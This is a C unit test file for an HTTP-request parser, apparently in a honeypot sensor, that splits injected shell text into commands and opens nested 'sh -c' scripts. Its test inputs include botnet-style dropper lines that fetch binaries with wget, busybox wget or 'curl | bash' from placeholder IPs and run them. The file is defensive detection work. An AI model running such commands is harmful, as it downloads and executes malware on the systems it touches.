/*
 * test_http_inject.c - the "injected" lists of http.request (src/proto/http_inject.c):
 * each simple command of the extracted text as the shell parser splits it, a
 * substitution that is the whole command opened, the script of "sh -c" parsed
 * too, words as written, and the cap on how many are listed.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "event.h"
#include "proto/http_inject.h"

/* The "injected" member of an event listing text, as JSON ("[...]"); caller frees. */
static char *injected(const char *text)
{
    struct hp_ev ev;
    hp_ev_begin(&ev, NULL, "http.request");
    hp_ev_arr_begin(&ev, "injected");
    hp_http_injected(&ev, text, strlen(text));
    hp_ev_arr_end(&ev);
    struct hp_event *e = hp_ev_finish(&ev);
    assert_non_null(e);
    const char *p = strstr(e->json, "\"injected\":");
    assert_non_null(p);
    p += strlen("\"injected\":");
    const char *end = strrchr(p, '}');
    assert_non_null(end);
    char *out = strndup(p, (size_t)(end - p));
    hp_event_unref(e);
    return out;
}

static void expect(const char *text, const char *want)
{
    char *got = injected(text);
    if (strcmp(got, want) != 0)
        fail_msg("%s\n  got  %s\n  want %s", text, got, want);
    free(got);
}

static void test_simple_and_substitution(void **state)
{
    expect("cd /tmp;wget http://192.0.2.40/z;chmod 777 z;./z zyxel",
           "[[\"cd\",\"/tmp\"],[\"wget\",\"http://192.0.2.40/z\"],[\"chmod\",\"777\",\"z\"],[\"./z\",\"zyxel\"]]");
    expect("$(/bin/busybox wget -g 192.0.2.7 -l /tmp/b -r /mips; /tmp/b huawei)",
           "[[\"/bin/busybox\",\"wget\",\"-g\",\"192.0.2.7\",\"-l\",\"/tmp/b\",\"-r\",\"/mips\"],[\"/tmp/b\",\"huawei\"]]");
    expect("`id`", "[[\"id\"]]");
    /* words as written: nothing is expanded */
    expect("X=1 echo $HOME \"a b\"", "[[\"echo\",\"$HOME\",\"\\\"a b\\\"\"]]");
}

static void test_sh_c_script(void **state)
{
    /* the sh command itself, then what its script runs, quotes taken off */
    expect("sh -c \"curl -s http://192.0.2.84/k | bash\"",
           "[[\"sh\",\"-c\",\"\\\"curl -s http://192.0.2.84/k | bash\\\"\"],[\"curl\",\"-s\",\"http://192.0.2.84/k\"],[\"bash\"]]");
    expect("busybox sh -c id", "[[\"busybox\",\"sh\",\"-c\",\"id\"],[\"id\"]]");
    expect("/bin/dash -e -c 'uname -a' x", "[[\"/bin/dash\",\"-e\",\"-c\",\"'uname -a'\",\"x\"],[\"uname\",\"-a\"]]");
    /* escapes inside double quotes come off with them; nested sh -c is opened again */
    expect("bash -c \"sh -c \\\"wget http://192.0.2.1/x\\\"\"",
           "[[\"bash\",\"-c\",\"\\\"sh -c \\\\\\\"wget http://192.0.2.1/x\\\\\\\"\\\"\"],"
           "[\"sh\",\"-c\",\"\\\"wget http://192.0.2.1/x\\\"\"],[\"wget\",\"http://192.0.2.1/x\"]]");
    /* not a -c script: a file, another program's -c, an option list without the script */
    expect("sh script.sh", "[[\"sh\",\"script.sh\"]]");
    expect("python3 -c id", "[[\"python3\",\"-c\",\"id\"]]");
    expect("sh -c", "[[\"sh\",\"-c\"]]");
}

static void test_cap(void **state)
{
    char text[4096] = "";
    for (int i = 0; i < 100; i++)
        strcat(text, "id;");
    char *got = injected(text);
    size_t n = 0;
    for (const char *p = got; (p = strstr(p, "[\"id\"]")); p++)
        n++;
    assert_int_equal(n, HP_HTTP_INJECTED_MAX);
    free(got);
    /* a deep nest of sh -c stops; nothing hangs or overflows */
    char deep[8192] = "";
    for (int i = 0; i < 40; i++)
        strcat(deep, "sh -c '");
    strcat(deep, "id");
    got = injected(deep);
    assert_non_null(got);
    free(got);
}

int main(void)
{
    hp_event_set_sensor("test");
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_simple_and_substitution),
        cmocka_unit_test(test_sh_c_script),
        cmocka_unit_test(test_cap),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
